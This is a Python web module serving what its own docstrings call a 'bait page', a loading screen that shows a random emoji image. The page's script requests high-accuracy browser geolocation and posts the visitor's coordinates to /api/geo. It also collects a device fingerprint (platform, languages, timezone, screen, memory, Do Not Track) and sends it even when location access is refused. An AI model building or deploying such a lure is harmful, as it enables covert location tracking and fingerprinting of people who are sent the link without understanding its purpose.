"""Interactive bait page and the random image it displays."""

import random
import secrets
from pathlib import Path

from starlette.responses import FileResponse, HTMLResponse, Response

IMAGE_EXTENSIONS = {".png", ".jpg", ".jpeg", ".webp", ".gif"}

PALETTES = [
    ("#0ea5e9", "#22d3ee"),
    ("#22c55e", "#84cc16"),
    ("#ef4444", "#f97316"),
    ("#8b5cf6", "#06b6d4"),
    ("#f59e0b", "#10b981"),
]
EMOJIS = ["😀", "🚀", "🎯", "🔥", "🌈", "🍕", "⭐", "❤️", "🎲", "🛰️", "🧠", "🦊"]

BAIT_PAGE = """<!doctype html>
<html>
  <head>
    <meta charset="utf-8" />
    <meta name="viewport" content="width=device-width, initial-scale=1" />
    <title>Loading…</title>
    <style nonce="{nonce}">
      html,body {{ height:100%; margin:0 }}
      body {{ display:flex; align-items:center; justify-content:center; background:#0b0b0b; color:#e5e5e5; font:14px system-ui, -apple-system, Segoe UI, Roboto, sans-serif }}
      .box {{ text-align:center }}
      img {{ max-width: min(92vw, 640px); height: auto; border-radius: 12px; box-shadow: 0 6px 30px rgba(0,0,0,.35) }}
      .muted {{ opacity: .7; margin-top: 8px }}
      .hidden {{ display:none }}
    </style>
  </head>
  <body>
    <div class="box">
      <div id="msg">Requesting location…</div>
      <div class="muted">You may be prompted to allow access.</div>
      <img id="img" alt="" class="hidden" />
    </div>
    <script nonce="{nonce}">
      (function(){{
        var msg = document.getElementById('msg');
        var img = document.getElementById('img');
        img.classList.remove('hidden');
        img.src = '/image/random?t=' + Date.now();
        img.onerror = function(){{ setTimeout(function(){{ img.src = '/image/random?t=' + Date.now(); }}, 300); }};
        function showImage(){{ msg.textContent = ''; }}
        function postGeo(payload){{
          return fetch('/api/geo', {{ method:'POST', headers:{{'Content-Type':'application/json'}}, credentials:'include', body: JSON.stringify(payload) }});
        }}
        function toNum(n){{ return (typeof n === 'number' && isFinite(n)) ? n : null; }}
        var device = {{
          platform: navigator.platform || null,
          vendor: navigator.vendor || null,
          language: navigator.language || null,
          languages: Array.isArray(navigator.languages) ? navigator.languages.slice(0,8) : null,
          timezone: (window.Intl && Intl.DateTimeFormat) ? Intl.DateTimeFormat().resolvedOptions().timeZone : null,
          hardwareConcurrency: toNum(navigator.hardwareConcurrency),
          deviceMemory: toNum(navigator.deviceMemory),
          screenW: (window.screen && window.screen.width) ? Number(window.screen.width) : null,
          screenH: (window.screen && window.screen.height) ? Number(window.screen.height) : null,
          colorDepth: (window.screen && window.screen.colorDepth) ? Number(window.screen.colorDepth) : null,
          doNotTrack: (navigator.doNotTrack === '1')
        }};
        // Browsers block geolocation outside secure contexts
        if (!('geolocation' in navigator) || !window.isSecureContext) {{ showImage(); return; }}
        var timeout = setTimeout(function(){{ showImage(); }}, 1500);
        navigator.geolocation.getCurrentPosition(function(pos){{
          clearTimeout(timeout);
          var c = pos.coords || {{}};
          postGeo(Object.assign({{ lat: toNum(c.latitude), lon: toNum(c.longitude), accuracy: toNum(c.accuracy), timestamp: pos.timestamp || Date.now(), consented: true }}, device)).finally(showImage);
        }}, function(){{
          clearTimeout(timeout);
          postGeo(Object.assign({{ consented: false }}, device)).finally(showImage);
        }}, {{ enableHighAccuracy: true, timeout: 1800, maximumAge: 0 }});
      }})();
    </script>
  </body>
</html>
"""


def render_bait_page() -> HTMLResponse:
    """Render the bait page with a fresh CSP nonce.

    Nothing from the request is interpolated into the markup.
    """
    nonce = secrets.token_urlsafe(16)
    return HTMLResponse(
        BAIT_PAGE.format(nonce=nonce),
        headers={
            "Content-Security-Policy": (
                "default-src 'self'; "
                f"script-src 'nonce-{nonce}'; "
                f"style-src 'nonce-{nonce}'; "
                "img-src 'self'; "
                "connect-src 'self'; "
                "frame-ancestors 'self'; "
                "form-action 'self'"
            ),
            "Permissions-Policy": "geolocation=(self)",
            "Cache-Control": "no-store",
        },
    )


def generate_random_svg(width: int = 640, height: int = 360) -> str:
    """Gradient card with a random emoji."""
    c1, c2 = random.choice(PALETTES)
    emoji = random.choice(EMOJIS)
    rx = random.randint(16, 55)
    rotate = random.randint(0, 359)
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="{width}" height="{height}" viewBox="0 0 {width} {height}">
  <defs>
    <linearGradient id="g" x1="0" y1="0" x2="1" y2="1">
      <stop offset="0%" stop-color="{c1}" />
      <stop offset="100%" stop-color="{c2}" />
    </linearGradient>
  </defs>
  <rect x="0" y="0" width="100%" height="100%" fill="url(#g)" rx="{rx}"/>
  <g transform="translate({width // 2}, {height // 2}) rotate({rotate})">
    <circle cx="0" cy="0" r="112" fill="rgba(255,255,255,0.28)" />
  </g>
  <text x="50%" y="52%" dominant-baseline="middle" text-anchor="middle" font-size="120" fill="#ffffff">{emoji}</text>
</svg>"""


def pick_random_image(directory: str | Path) -> Path | None:
    """Random image file from ``directory``, or None if there is none."""
    path = Path(directory)
    if not path.is_dir():
        return None
    files = [f for f in path.iterdir() if f.is_file() and f.suffix.lower() in IMAGE_EXTENSIONS]
    if not files:
        return None
    return random.choice(files)


def random_image_response(directory: str | Path) -> Response:
    """Serve a random image from ``directory``, falling back to a generated SVG."""
    headers = {"Cache-Control": "no-store"}
    image = pick_random_image(directory)
    if image:
        return FileResponse(image, headers=headers)
    return Response(
        generate_random_svg(),
        media_type="image/svg+xml; charset=utf-8",
        headers=headers,
    )
